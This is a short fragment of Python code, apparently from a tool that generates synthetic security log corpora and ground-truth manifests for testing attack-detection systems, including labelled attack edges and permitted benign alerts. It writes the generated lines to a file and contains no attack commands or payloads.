    m.expected_label_timeline = list(w.timeline)
    if script is not None:
        m.attack_edges = _flow_connected(w.attack_events, m.apt_process, m.apt_ts, m.entry)
    m.permitted_benign_alerts = [("Suspicious Behavior", host.logind.id.key)]
    return w.lines, m


def generate(spec: ScenarioSpec, corpus_path: str, manifest_path: Optional[str] = None) -> GroundTruthManifest:
    lines, manifest = generate_lines(spec)
    with open(corpus_path, "w", encoding="utf-8") as fh:
        for line in lines:
            fh.write(line)
            fh.write("\n")
    if manifest_path:
        manifest.write(manifest_path)
    return manifest
